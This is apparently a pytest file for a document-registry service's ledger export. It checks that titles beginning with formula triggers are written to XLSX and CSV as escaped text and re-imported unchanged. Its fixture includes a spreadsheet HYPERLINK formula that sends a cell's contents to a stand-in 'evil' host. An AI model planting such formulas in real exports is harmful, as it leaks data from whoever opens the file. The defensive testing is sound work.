"""A title that a spreadsheet would run comes out of the ledger as text, and goes back in as it was."""

import csv
import io
from datetime import datetime
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from tests.support import token

STAFF = token(clearance="none")
LIAISON = token(sub="nn", unit="NNCB", roles=("liaison",), clearance="none")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
EVIL = '=HYPERLINK("http://evil/?d="&B3,"点击")'
# what a spreadsheet runs, an apostrophe the title really has (before and not before a trigger), plain text
TITLES = [
    EVIL,
    "+86 电话通知",
    "-1 号文件",
    "@SUM(A1)",
    "'=本来就有撇号",
    "'撇号开头",
    "关于开展安全检查的通知",
]
WRITTEN = {title: "'" + title for title in TITLES[:5]} | {title: title for title in TITLES[5:]}


@pytest.fixture
async def docs(start_stack: Any) -> Any:
    async with start_stack("docs") as stack:
        yield stack


async def register(stack: Any, title: str, headers: dict[str, str]) -> None:
    body = {"title": title, "source_org": "省政府办公厅", "channel": "oa",
            "received_at": datetime.now(ZoneInfo("Asia/Shanghai")).isoformat()}  # fmt: skip
    answer = await stack.docs.post("/api/v1/incoming", json=body, headers=headers)
    assert answer.status_code == 201, answer.text


async def export(stack: Any, form: str) -> Any:
    year = datetime.now(ZoneInfo("Asia/Shanghai")).year
    answer = await stack.docs.get(
        "/api/v1/ledgers/incoming", params={"year": year, "format": form}, headers=STAFF
    )
    assert answer.status_code == 200, answer.text
    return answer


async def titles(stack: Any) -> list[str]:
    year = datetime.now(ZoneInfo("Asia/Shanghai")).year
    answer = await stack.docs.get("/api/v1/incoming", params={"year": year, "limit": 100}, headers=STAFF)
    return [d["title"] for d in answer.json()["items"]]


async def test_a_liaisons_formula_title_is_text_in_the_xlsx_ledger(docs: Any) -> None:
    await register(docs, EVIL, LIAISON)
    answer = await export(docs, "xlsx")
    assert answer.headers["content-type"] == XLSX
    sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).worksheets[0]
    title = sheet.cell(row=3, column=5)  # 标题, below the title and header rows
    assert title.value == "'" + EVIL
    assert title.data_type == "s"
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert (
        openpyxl.load_workbook(io.BytesIO(answer.content), data_only=True).worksheets[0]["E3"].value
        == "'" + EVIL
    )


async def test_a_liaisons_formula_title_is_text_in_the_csv_ledger(docs: Any) -> None:
    await register(docs, EVIL, LIAISON)
    answer = await export(docs, "csv")
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"].endswith(".csv")
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert [r["标题"] for r in rows] == ["'" + EVIL]
    assert rows[0]["收文单位"] == "南宁市局"


@pytest.mark.parametrize("form", ["xlsx", "csv"])
async def test_every_title_is_written_as_text_and_imported_back_as_it_was(docs: Any, form: str) -> None:
    for title in TITLES:
        await register(docs, title, STAFF)
    answer = await export(docs, form)
    if form == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).worksheets[0]
        written = [row[4] for row in sheet.iter_rows(min_row=3, values_only=True)]
    else:
        written = [r["标题"] for r in csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig")))]
    assert written == [WRITTEN[t] for t in TITLES]

    media = XLSX if form == "xlsx" else "text/csv"
    again = await docs.docs.post(
        "/api/v1/ledgers/incoming", content=answer.content, headers={**STAFF, "Content-Type": media}
    )
    assert again.status_code == 201, again.text
    assert await titles(docs) == TITLES + TITLES
